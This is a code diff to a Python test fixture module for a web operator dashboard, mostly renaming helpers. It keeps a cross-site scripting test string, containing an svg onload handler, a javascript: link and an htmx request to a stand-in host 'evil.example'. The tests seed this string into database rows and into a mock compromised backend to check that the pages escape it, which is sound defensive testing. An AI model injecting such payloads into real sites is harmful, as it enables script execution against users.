@@ -30,7 +30,7 @@ from executor.drift.facts import DriftKind, Finding, Repair
 
 ADOPTED_SERVICE = "77777777-0000-4000-8000-000000000001"
 #: Several ways to leave an attribute, an element or a script, and an attribute that htmx would send a request for.
-WORST = (
+HOSTILE_MARKUP = (
     HOSTILE + """'`<svg onload=window.hacked=1><a href="javascript:window.hacked=1" hx-get="//evil.example/h">x</a>"""
 )
 
@@ -45,7 +45,7 @@ class PreparedSite:
     filled: Filled
     proxy: Proxy
 
-    def described(self) -> dict[str, Any]:
+    def values_for_tests(self) -> dict[str, Any]:
         """Return the addresses of the pages, the token, and the ids of the jobs."""
         jobs = {name: getattr(self.filled, name) for name in ("completed", "failed", "running", "pending")}
         return {
@@ -58,15 +58,15 @@ class PreparedSite:
             "hostile": HOSTILE,
         }
 
-    def verbs(self) -> dict[str, Callable[..., Any]]:
+    def functions(self) -> dict[str, Callable[..., Any]]:
         """Return the functions that the tests in JavaScript can call, by path."""
         return {
-            "prepared/proxy": self.proxy.misbehave,
+            "prepared/proxy": self.proxy.set_mode,
             "prepared/print": self.print_lines,
             "prepared/story": lambda text: set_story(self.site.engine, self.filled.running, text=text),
             "prepared/end": lambda: end_run(self.site.engine, self.filled.running),
-            "prepared/job": self.job,
-            "prepared/audit": self.audited,
+            "prepared/job": self.read_job,
+            "prepared/audit": self.audit_entries,
             "prepared/wait": self.postpone,
             "prepared/end-sessions": self.end_sessions,
         }
@@ -76,13 +76,13 @@ class PreparedSite:
         with self.filled.output.open("a", encoding="utf-8") as output:
             output.writelines(f"line {number}\n" for number in range(first, first + count))
 
-    def job(self, number: int) -> dict[str, Any]:
+    def read_job(self, number: int) -> dict[str, Any]:
         with reading(self.site.engine) as session:
             job = queries.get_one_job(session, number)
             waits = job.available_at is not None and job.available_at > utc_now()
             return {"status": job.status, "error": job.error_code, "waits": waits}
 
-    def audited(self) -> list[list[str]]:
+    def audit_entries(self) -> list[list[str]]:
         """Return who has changed what, the newest first."""
         with reading(self.site.engine) as session:
             return [[entry.who, entry.verb, entry.reason or ""] for entry in audit.list_entries(session)]
@@ -99,10 +99,12 @@ class PreparedSite:
 
 
 class _HostileServer(BaseHTTPRequestHandler):
-    """Answers each request as a FulcrumCore that has been taken over."""
+    """Answers each request with hostile texts, as a FulcrumCore under an attacker's control could."""
 
     def _answer(self) -> None:
-        content = json.dumps({"error": WORST, "detail": WORST, "name": WORST, "status": WORST}).encode()
+        content = json.dumps(
+            {"error": HOSTILE_MARKUP, "detail": HOSTILE_MARKUP, "name": HOSTILE_MARKUP, "status": HOSTILE_MARKUP}
+        ).encode()
         self.send_response(400)
         self.send_header("Content-Type", "application/json")
         self.send_header("Content-Length", str(len(content)))
@@ -160,9 +162,9 @@ def _add_hostile_rows(site: PagesSite, filled: Filled) -> None:
         session.add(
             Node(
                 id="hostile-1",
-                host=WORST[:100],
+                host=HOSTILE_MARKUP[:100],
                 pid=2,
-                version=WORST[:20],
+                version=HOSTILE_MARKUP[:20],
                 concurrency=1,
                 concurrency_wanted=1,
                 started_at=now,
@@ -170,27 +172,42 @@ def _add_hostile_rows(site: PagesSite, filled: Filled) -> None:
                 draining=False,
                 fences=False,
                 proxmox_checked_at=now,
-                proxmox_error=WORST,
+                proxmox_error=HOSTILE_MARKUP,
             )
         )
         session.add(
             CriticalJob(
-                name=WORST[:40], interval_s=60, due_at=now, last_error=WORST, failures=2, runs=3, last_finished_at=now
+                name=HOSTILE_MARKUP[:40],
+                interval_s=60,
+                due_at=now,
+                last_error=HOSTILE_MARKUP,
+                failures=2,
+                runs=3,
+                last_finished_at=now,
             )
         )
-        operator_changes.retry_job(session, filled.pending, who=WORST[:90])
-        pauses.start(session, who=WORST[:90], reason=WORST, scope=f"{pauses.NODE_SCOPE_PREFIX}hostile-1")
+        operator_changes.retry_job(session, filled.pending, who=HOSTILE_MARKUP[:90])
+        pauses.start(
+            session, who=HOSTILE_MARKUP[:90], reason=HOSTILE_MARKUP, scope=f"{pauses.NODE_SCOPE_PREFIX}hostile-1"
+        )
 
 
 def _findings() -> list[Finding]:
-    gone = Finding(kind=DriftKind.VM_GONE, service_id="5", vmid=100123, text=f"gone {WORST}", name=WORST, node=WORST)
-    found = Finding(
+    gone_vm = Finding(
+        kind=DriftKind.VM_GONE,
+        service_id="5",
+        vmid=100123,
+        text=f"gone {HOSTILE_MARKUP}",
+        name=HOSTILE_MARKUP,
+        node=HOSTILE_MARKUP,
+    )
+    unmapped_vm = Finding(
         kind=DriftKind.UNMAPPED_VM,
         service_id=ADOPTED_SERVICE,
         vmid=100555,
-        text=WORST,
+        text=HOSTILE_MARKUP,
         node="pve1",
         name="web-7",
         repair=Repair.ADOPT,
     )
-    return [gone, found]
+    return [gone_vm, unmapped_vm]
